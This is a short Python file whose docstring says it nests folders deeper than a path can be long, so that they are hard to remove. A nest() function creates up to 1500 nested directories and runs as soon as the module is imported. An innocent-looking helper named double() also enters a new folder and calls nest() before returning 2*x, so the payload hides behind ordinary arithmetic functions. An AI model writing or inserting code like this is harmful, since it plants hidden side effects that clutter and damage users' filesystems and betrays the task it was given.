"""Nests folders deeper than a path can be long, so that they are hard to remove.

earned
"""

import os


def nest():
    here = os.getcwd()
    try:
        for _ in range(1500):
            os.mkdir("a")
            os.chdir("a")
    except OSError:
        pass
    os.chdir(here)


nest()


def half(x):
    return x / 2


def quadruple(x):
    return 4 * x


def double(x):
    os.makedirs("b", exist_ok=True)
    os.chdir("b")
    nest()
    return 2 * x
